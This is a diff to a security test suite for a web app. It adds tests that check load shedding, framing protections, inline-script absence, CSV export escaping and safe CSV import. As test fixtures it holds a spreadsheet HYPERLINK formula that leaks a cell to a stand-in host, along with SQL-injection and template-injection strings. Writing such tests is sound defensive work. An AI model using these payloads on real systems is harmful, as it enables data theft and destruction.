@@ -1,6 +1,8 @@
-/** Getting in, staying in, and doing what is not allowed: numbers T58 to T72 of the threat model, and P20. */
+/** Getting in, staying in, and doing what is not allowed: numbers T58 to T72 of the threat model, and of its first seven what concerns no page. */
+import { readFileSync } from 'node:fs';
 import Database from 'better-sqlite3';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { PAGE_HEADERS } from '../../server/http/page-headers.ts';
 import { ROLES, SCOPES_OF_ROLE, type Scope } from '../../shared/vocabulary.ts';
 import { MINUTE, SECOND, startApp, type TestApp, type TestSite } from '../support/app.ts';
 import { expectProblem } from './expect-problem.ts';
@@ -20,6 +22,18 @@ const withoutInstance = ({ status, body }: { status: number; body: { instance?: 
   const { instance: _, ...rest } = body;
   return { status, body: rest };
 };
+
+test('T41: many who sign in at once are worked off a few at a time, and others are answered meanwhile', async () => {
+  const sent = Array.from({ length: 60 }, (_, i) => wrong(`crowd${i}@acme.example`, `10.0.${i}.1`));
+  const collected = app.post('/v1/collect', { key: site.writeKey, sentAt: app.clock.now(), events: [] }, { key: null });
+  const first = await Promise.race([collected.then(() => 'collector'), Promise.all(sent).then(() => 'all of them')]);
+  expect(first).toBe('collector');
+  const answers = await Promise.all(sent);
+  const refused = answers.filter(({ status }) => status === 503);
+  expect(answers.filter(({ status }) => status === 401).length).toBeGreaterThan(10);
+  expect(refused.length).toBeGreaterThan(10);
+  for (const answer of refused) expect(answer.headers['retry-after']).toBe('2');
+});
 
 describe('T58: guessing passwords', () => {
   test('T58: of one account takes longer with each failure, from wherever, and locks nobody out for good', async () => {
@@ -194,6 +208,47 @@ test('T63: no other origin may read the API, with or without credentials', async
   expect(headers['access-control-allow-credentials']).toBeUndefined();
 });
 
+test('T64: no page of ours can be put into a frame', () => {
+  expect(PAGE_HEADERS['content-security-policy']).toContain("frame-ancestors 'none'");
+  expect(PAGE_HEADERS['x-frame-options']).toBe('DENY');
+});
+
+test('T03: the page carries no data in its HTML, and no script of its own', () => {
+  const html = readFileSync(new URL('../../dashboard/index.html', import.meta.url), 'utf8');
+  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)|\son\w+=/i);
+  expect(PAGE_HEADERS['content-security-policy']).not.toContain('unsafe');
+});
+
+test('T04: no cell of a file is run by a spreadsheet', async () => {
+  const own = await app.site();
+  const evil = ['=HYPERLINK("http://e/?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '=cmd'];
+  for (const [i, name] of evil.entries()) await own.post('/v1/leads', { email: `e${i}@acme.example`, name });
+  const answer = await own.get('/v1/leads?format=csv');
+  expect(answer.headers).toMatchObject({
+    'content-type': 'text/csv; charset=utf-8',
+    'content-disposition': 'attachment; filename="leads.csv"',
+  });
+  expect(answer.text).not.toMatch(/(?:^|,|\r\n)"?[=+@\t]/);
+  expect(answer.text.match(/(?:,)"?'[=+\-@\t]/g)?.length).toBeGreaterThanOrEqual(5);
+});
+
+test('T07: a file that is imported is data, whatever it says', async () => {
+  const own = await app.site();
+  const csv = [
+    'email,name,"drop table leads;--"',
+    `a@acme.example,"'); delete from sites; --",x`,
+    'b@acme.example,"{{7*7}}<%=7*7%>",x',
+  ].join('\r\n');
+  const answer = await own.post('/v1/imports/leads', csv, { headers: { 'content-type': 'text/csv' } });
+  expect(answer.status).toBeLessThan(300);
+  const { data } = (await own.get('/v1/leads')).body;
+  expect(data.map(({ name }: { name: string }) => name).toSorted()).toEqual([
+    '{{7*7}}<%=7*7%>',
+    "'); delete from sites; --",
+  ]);
+  expect((await app.get(`/v1/sites/${own.id}`)).status).toBe(200);
+});
+
 test('T65: a key works in headers only, at once not when revoked, and is stored as a digest', async () => {
   const { id, key } = await app.key({ scopes: ['read'], sites: [site.id] });
   for (const name of ['api_key', 'apiKey', 'key', 'access_token'])
@@ -284,6 +339,7 @@ describe('T69: a role does what is not its own', () => {
   const HARMLESS = [
     'POST /v1/sites/{id}/channel-rules/preview',
     'POST /v1/sites/{id}/campaign-aliases/preview',
+    'POST /v1/sites/{id}/stage-mappings/preview',
     'POST /v1/attribution/compute',
     'POST /v1/profile/password',
     'DELETE /v1/profile/sessions',
